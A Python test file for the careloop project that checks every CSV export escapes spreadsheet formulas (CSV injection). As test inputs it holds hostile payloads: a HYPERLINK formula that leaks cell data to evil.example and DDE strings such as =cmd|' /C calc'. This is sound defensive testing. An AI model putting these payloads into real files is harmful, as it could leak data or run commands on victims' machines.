"""No CSV careloop writes for people runs a formula when opened in a spreadsheet.

Issue 14: a failed login with the e-mail ``=HYPERLINK(…)`` or a request id
``=cmd|…`` landed unescaped in the auditor's CSV, and record exports wrote
``=…``, ``@…``, ``+…``, ``-…`` cells raw. Each writer is tested here with
OWASP's example payloads: every formula cell is prefixed with a single quote
(and counted), numbers stay numbers, and a records export or a data
dictionary re-imports to the same values (careloop.core.csv_safety).
"""

from __future__ import annotations

import csv
import io
import json
import re

import pandas as pd
import pytest
from typer.testing import CliRunner

from careloop.capture import forms_store
from careloop.capture.records_io import export_records, import_records
from careloop.cli.main import app as cli
from careloop.cli.output import print_frame
from careloop.measures.export import export_results
from careloop.measures.runner import RESULT_COLUMNS
from tests.capture.registry_helpers import principal
from tests.conftest import TEST_DATA
from tests.foundation import PASSWORD

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
CMD = "=cmd|' /C calc'!A0"
HOSTILE = [HYPERLINK, CMD, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'", "-2+3+cmd|' /C"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _raw_formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run (a plain number is not one)."""
    number = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
    return [c for r in rows for c in r if c and c[0] in "=+-@\t\r\0" and not number.fullmatch(c)]


def _neutralised(rows: list[list[str]]) -> int:
    return sum(1 for r in rows for c in r if len(c) > 1 and c[0] == "'" and c[1] in "=+-@\t\r")


def _login_form(api) -> str:
    page = api.get("/login")
    return re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)


def test_a_failed_login_s_e_mail_and_request_id_cannot_run_in_the_auditor_s_csv(api, installation):
    token = _login_form(api)
    response = api.post(
        "/login",
        data={"email": HYPERLINK, "password": "wrong", "csrf_token": token},
        headers={"X-Request-Id": CMD},
    )
    assert response.status_code == 401
    report = api.get(
        "/api/audit",
        params={"format": "csv", "action": "login_failed"},
        headers={"Authorization": f"Bearer {installation.tokens['auditor']}"},
    )
    assert report.status_code == 200
    rows = _cells(report.text)
    ours = [r for r in rows[1:] if r[rows[0].index("request_id")] == "'" + CMD]
    assert len(ours) == 1
    assert ours[0][rows[0].index("user_email")] == "'" + HYPERLINK.lower()
    assert _raw_formulas(rows) == []
    assert _neutralised([ours[0]]) == 2


FORM = """
format: careloop.forms/1
forms:
  - name: csv_probe
    title: CSV probe
    fields:
      - name: probe_date
        type: text
        label: Date
        validation: date_ymd
        required: true
      - name: remark
        type: notes
        label: Remark
      - name: change
        type: text
        label: Change
        validation: number
        min: "-100"
        max: "100"
"""


@pytest.fixture(scope="module")
def probe_form(installation):
    forms_store.import_forms(
        installation.registry, installation.operator, FORM.encode(), fmt="yaml", name="probe.yaml"
    )
    return "csv_probe"


def test_a_records_export_escapes_formulas_keeps_numbers_and_re_imports_unchanged(
    installation, probe_form
):
    lead = principal(installation, "site_lead@A")
    remarks = [*HOSTILE, "'=already quoted", "plain"]
    lines = ["record_id,event_date,probe_date,remark,change"]
    for i, remark in enumerate(remarks):
        quoted = '"' + remark.replace('"', '""') + '"'
        lines.append(f"CSV-{i},2024-05-0{i + 1},2024-05-0{i + 1},{quoted},-{i + 1}.5")
    first = import_records(
        installation.registry, lead, probe_form, ("\n".join(lines) + "\n").encode(), "A"
    )
    assert first.ok and first.created == len(remarks), first.as_dict()
    exported = export_records(installation.registry, lead, probe_form, site="A").text
    rows = _cells(exported)
    header = rows[0]
    assert _raw_formulas(rows) == []
    assert _neutralised(rows) == len(HOSTILE) + 1
    assert [r[header.index("change")] for r in rows[1:]] == [f"-{i + 1}.5" for i in range(7)]
    again = import_records(installation.registry, lead, probe_form, exported.encode(), "A")
    assert (again.created, again.updated, again.unchanged) == (0, 0, len(remarks))
    stored = json.loads(
        export_records(installation.registry, lead, probe_form, site="A", fmt="json").text
    )
    # A file's '=… is read as a spreadsheet reads it: the text =… (the escape removed).
    expected = [*HOSTILE, "=already quoted", "plain"]
    assert sorted(r["values"]["remark"] for r in stored) == sorted(expected)


def test_the_import_problem_report_escapes_the_rejected_values(installation, probe_form):
    lead = principal(installation, "site_lead@A")
    lines = ["record_id,event_date,probe_date,remark,change"]
    lines += [f"BAD-{i},2024-06-01,2024-06-01,x,{v}" for i, v in enumerate((CMD, "@x", "+y"))]
    report = import_records(
        installation.registry, lead, probe_form, ("\n".join(lines) + "\n").encode(), "A"
    )
    assert not report.ok
    rows = _cells(report.problems_csv())
    assert _raw_formulas(rows) == []
    assert _neutralised(rows) == 3


def test_a_data_dictionary_export_escapes_labels_and_re_imports_to_the_same_form(
    api, installation, probe_form
):
    admin = {"Authorization": f"Bearer {installation.tokens['admin']}"}
    hostile_form = FORM.replace("label: Remark", f"label: '{CMD.replace(chr(39), chr(39) * 2)}'")
    hostile_form = hostile_form.replace("name: csv_probe", "name: csv_probe_labels")
    created = api.post("/api/forms?format=yaml", content=hostile_form.encode(), headers=admin)
    assert created.status_code == 201, created.text
    dictionary = api.get("/api/forms/csv_probe_labels?format=redcap", headers=admin)
    rows = _cells(dictionary.text)
    assert _raw_formulas(rows) == []
    assert _neutralised(rows) == 1
    again = api.post(
        "/api/forms?format=redcap&name=again.csv", content=dictionary.content, headers=admin
    )
    assert again.status_code == 201, again.text
    form = api.get("/api/forms/csv_probe_labels", headers=admin).json()
    labels = {f["name"]: f["label"] for f in form["definition"]["fields"]}
    assert labels["remark"] == CMD


def _results(stratum_values: list[str]) -> pd.DataFrame:
    rows = []
    for i, stratum in enumerate(stratum_values):
        rows.append(
            {
                "measure_id": "probe",
                "definition_hash": "h",
                "site": "A",
                "period_start": pd.Timestamp("2024-01-01"),
                "period_end": pd.Timestamp("2024-01-31"),
                "stratum": stratum,
                "numerator": 50 + i,
                "denominator": 100,
                "value": -0.5,
                "excluded": 0,
                "small_denominator": False,
            }
        )
    return pd.DataFrame(rows, columns=list(RESULT_COLUMNS))


def test_a_measures_csv_export_escapes_text_and_keeps_negative_values_numbers(tmp_path):
    path = export_results(_results(HOSTILE), tmp_path / "results.csv", fmt="csv")
    rows = _cells(path.read_text())
    assert _raw_formulas(rows) == []
    assert _neutralised(rows) == len(HOSTILE)
    assert {r[rows[0].index("value")] for r in rows[1:]} == {"-0.5"}


def test_the_measure_csv_download_escapes_text(api, installation, monkeypatch):
    from careloop.practice.feedback import dashboards as dashboard

    frame = _results(HOSTILE)[["site", "stratum", "numerator", "denominator", "value"]]
    from careloop.web.pages import measure_page

    # The download's rows come straight from this frame (no measure run needed).
    monkeypatch.setattr(measure_page, "_detail", lambda *args: (frame, None))
    monkeypatch.setattr(dashboard, "measure_numbers", lambda stored, measure, who: stored)
    monkeypatch.setattr(dashboard, "measure_table", lambda detail, numbers: numbers)
    token = _login_form(api)
    api.post(
        "/login",
        data={
            "email": installation.emails["clinician@A"],
            "password": PASSWORD,
            "csrf_token": token,
        },
    )
    response = api.get("/measures/probe.csv")
    api.post("/logout", headers={"X-CSRF-Token": _csrf(api)})
    assert response.status_code == 200
    rows = _cells(response.text)
    assert _raw_formulas(rows) == []
    assert _neutralised(rows) == len(HOSTILE)


def _csrf(api) -> str:
    page = api.get("/")
    match = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    return match.group(1) if match else ""


def test_cli_csv_output_escapes_text_cells_and_column_names(capsys):
    print_frame(pd.DataFrame({"=name": HOSTILE, "n": [-1] * len(HOSTILE)}), fmt="csv")
    rows = _cells(capsys.readouterr().out)
    assert _raw_formulas(rows) == []
    assert _neutralised(rows) == len(HOSTILE) + 1
    assert {r[1] for r in rows[1:]} == {"-1"}


def test_a_warehouse_query_as_csv_escapes_what_the_query_returns(tmp_path):
    runner = CliRunner()
    d = ["--data-dir", str(tmp_path / "data")]
    init = runner.invoke(
        cli, ["init", *d, "--admin-email", "a@example.org", "--password-stdin"], input=PASSWORD
    )
    assert init.exit_code == 0, init.output
    slice_ = TEST_DATA / "omop_small"
    assert runner.invoke(cli, ["warehouse", "load-omop", str(slice_), *d]).exit_code == 0
    sql = "SELECT '=1+1' AS \"@x\", -5 AS n, '-2+3+cmd|x' AS y"
    result = runner.invoke(cli, ["warehouse", "query", sql, "--format", "csv", *d])
    assert result.exit_code == 0, result.output
    rows = _cells(result.stdout)
    assert rows == [["'@x", "n", "y"], ["'=1+1", "-5", "'-2+3+cmd|x"]]


def test_the_spc_points_csv_escapes_labels(tmp_path):
    data = tmp_path / "labels.csv"
    data.write_text(
        "x,y\n"
        + "".join(f'"{v.replace(chr(34), chr(34) * 2)}",{i}\n' for i, v in enumerate(HOSTILE))
    )
    result = CliRunner().invoke(
        cli, ["analyse", "spc", "--input", str(data), "--y", "y", "--x", "x", "--chart", "i",
              "--format", "csv"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    rows = _cells(result.stdout)
    assert _raw_formulas(rows) == []
    assert _neutralised(rows) == len(HOSTILE)


def test_the_warehouse_check_csv_escapes_text(tmp_path, monkeypatch):
    import careloop.cli.warehouse as warehouse_cli

    class Report:
        def to_frame(self) -> pd.DataFrame:
            return pd.DataFrame(
                {
                    "check_id": HOSTILE,
                    "category": ["completeness"] * len(HOSTILE),
                    "status": ["fail"] * len(HOSTILE),
                    "failing_rows": [1] * len(HOSTILE),
                    "denominator": [2] * len(HOSTILE),
                    "percent": [-50.0] * len(HOSTILE),
                }
            )

    monkeypatch.setattr(warehouse_cli, "check_warehouse", lambda *a, **k: (Report(), None))
    runner = CliRunner()
    d = ["--data-dir", str(tmp_path / "data")]
    runner.invoke(
        cli, ["init", *d, "--admin-email", "a@example.org", "--password-stdin"], input=PASSWORD
    )
    out = tmp_path / "check.csv"
    result = runner.invoke(cli, ["warehouse", "check", "--out", str(out), *d])
    assert result.exit_code == 0, result.output
    rows = _cells(out.read_text())
    assert _raw_formulas(rows) == []
    assert _neutralised(rows) == len(HOSTILE)


def test_redcap_action_tags_stay_as_redcap_needs_them_unless_they_reach_out():
    from careloop.capture.native_yaml import read_forms_yaml
    from careloop.capture.redcap import write_redcap_dictionary

    form = FORM.replace(
        "        label: Remark\n",
        "        label: Remark\n        annotation: '@READONLY @CHARLIMIT=200'\n",
    ).replace(
        "        label: Change\n",
        "        label: Change\n        unit: mm|Hg\n"
        "        annotation: '@HIDDEN @IF(1, HYPERLINK(\"https://evil.example\"))'\n",
    )
    rows = _cells(write_redcap_dictionary(read_forms_yaml(form)))
    annotation = {r[0]: r[-1] for r in rows[1:]}
    assert annotation["remark"] == "@READONLY @CHARLIMIT=200"
    assert annotation["change"].startswith("'@HIDDEN @IF(1, HYPERLINK(")
    assert '@CARELOOP-UNIT="mm|Hg"' in annotation["change"]
